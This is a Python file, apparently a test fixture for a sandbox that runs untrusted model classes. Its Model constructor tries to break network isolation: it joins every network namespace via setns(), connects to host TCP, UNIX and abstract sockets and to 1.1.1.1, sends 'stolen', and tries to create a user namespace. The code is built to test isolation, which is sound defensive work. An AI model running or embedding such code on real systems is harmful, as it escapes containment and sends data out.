"""Undo the network cut: setns() into every network namespace /proc shows (the parent's
first), then reach a TCP server on the host's 127.0.0.1, a UNIX socket on disk and an
abstract UNIX socket; and the outside world; make a user namespace of its own."""

import ctypes
import glob
import os
import socket

import numpy as np

from attack_common import attempt, take, targets

T = targets()
CLONE_NEWNET = 0x40000000


def setns(path):
    libc = ctypes.CDLL(None, use_errno=True)
    fd = os.open(path, os.O_RDONLY)
    if libc.setns(fd, CLONE_NEWNET) != 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return "joined " + path


def unshare(flags):
    """In a forked child: a process with threads (numpy's) may not change user namespace."""
    libc = ctypes.CDLL(None, use_errno=True)
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        err = 0 if libc.unshare(flags) == 0 else ctypes.get_errno()
        os.write(w, str(err).encode())
        os._exit(0)
    os.waitpid(pid, 0)
    err = int(os.read(r, 16))
    if err:
        raise OSError(err, os.strerror(err))
    return "unshared"


def connect(family, address):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(2)
    s.connect(address)
    s.sendall(b"stolen")
    return "connected to " + repr(address)


class Model:
    def __init__(self):
        for ns in [f"/proc/{os.getppid()}/ns/net"] + glob.glob("/proc/*/ns/net"):
            attempt("setns " + ns, lambda p=ns: setns(p))
        attempt("tcp", lambda: connect(socket.AF_INET, ("127.0.0.1", T["tcp_port"])))
        attempt("unix", lambda: connect(socket.AF_UNIX, T["unix_socket"]))
        attempt("abstract", lambda: connect(socket.AF_UNIX, "\0" + T["abstract_socket"]))
        attempt("internet", lambda: connect(socket.AF_INET, ("1.1.1.1", 443)))
        take("interfaces", [n for _, n in socket.if_nameindex()])
        # a user namespace of its own would give it every capability there (and a new
        # network namespace to configure)
        attempt("new userns", lambda: unshare(0x10000000))

    def predict(self, X):
        return np.zeros(len(X), dtype=np.int64)
